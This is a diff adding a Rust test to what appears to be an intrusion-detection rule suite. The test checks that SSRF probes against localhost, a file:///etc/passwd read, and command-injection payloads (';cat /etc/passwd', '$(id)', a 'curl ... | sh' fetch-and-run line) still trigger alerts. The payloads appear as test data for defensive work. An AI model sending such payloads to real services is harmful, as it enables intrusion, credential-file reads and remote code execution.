@@ -787,6 +787,62 @@ fn command_injection_fires_on_a_piped_or_chained_id_command() {
     }
 }
 
+#[test]
+fn classic_ssrf_and_command_payloads_still_fire_after_the_rules_were_narrowed() {
+    let query = |second: f64, ip: &str, query: &str| {
+        let mut event = request(second, ip, "/api/fetch");
+        event.url_query = Some(query.to_owned());
+        event
+    };
+    let body = |second: f64, ip: &str, body: &str| {
+        let mut event = request(second, ip, "/api/fetch");
+        event.method = Some("POST".to_owned());
+        event.request_body = Some(body.to_owned());
+        event
+    };
+    let ssrf = [
+        query(1.0, "203.0.113.121", "url=http://localhost/admin"),
+        query(1.1, "203.0.113.122", "url=http%3A%2F%2F127.0.0.1%3A8080%2F"),
+        query(1.2, "203.0.113.123", "url=http://user@127.0.0.1/"),
+        query(1.3, "203.0.113.124", "url=http://[::ffff:127.0.0.1]/"),
+        query(1.4, "203.0.113.125", "url=file:///etc/passwd"),
+        query(1.5, "203.0.113.126", "target=127.0.0.1:6379"),
+        body(1.6, "203.0.113.127", r#"{"host":"localhost"}"#),
+        body(
+            1.7,
+            "203.0.113.128",
+            r#"{"callback":"http://[::1]:8080/hook"}"#,
+        ),
+    ];
+    let command = [
+        query(2.0, "203.0.113.131", "host=8.8.8.8;cat%20/etc/passwd"),
+        query(2.1, "203.0.113.132", "host=$(id)"),
+        query(2.2, "203.0.113.133", "host=%60whoami%60"),
+        query(2.3, "203.0.113.134", "host=8.8.8.8%20%26%26%20whoami"),
+        // (`| id"` at the end of a JSON string is not caught: `{"columns":"name|id"}` is an
+        // ordinary list.)
+        body(2.4, "203.0.113.135", r#"{"host":"8.8.8.8 | id; ls"}"#),
+        body(
+            2.5,
+            "203.0.113.136",
+            "host=x; curl http://203.0.113.9/x.sh | sh",
+        ),
+    ];
+    let ips: Vec<(String, &str)> = ssrf
+        .iter()
+        .map(|event| (event.source_ip.clone().unwrap(), "probe.ssrf"))
+        .chain(
+            command
+                .iter()
+                .map(|event| (event.source_ip.clone().unwrap(), "probe.command-injection")),
+        )
+        .collect();
+    let findings = run(ssrf.into_iter().chain(command).collect());
+    for (ip, rule) in &ips {
+        assert_fires(&findings, rule, ip);
+    }
+}
+
 /// One request per ordinary input, each from its own address, for the injection rules.
 fn ordinary_inputs(queries: &[&str], bodies: &[&str], headers: &[(&str, &str)]) -> Vec<Event> {
     let mut events = Vec::new();
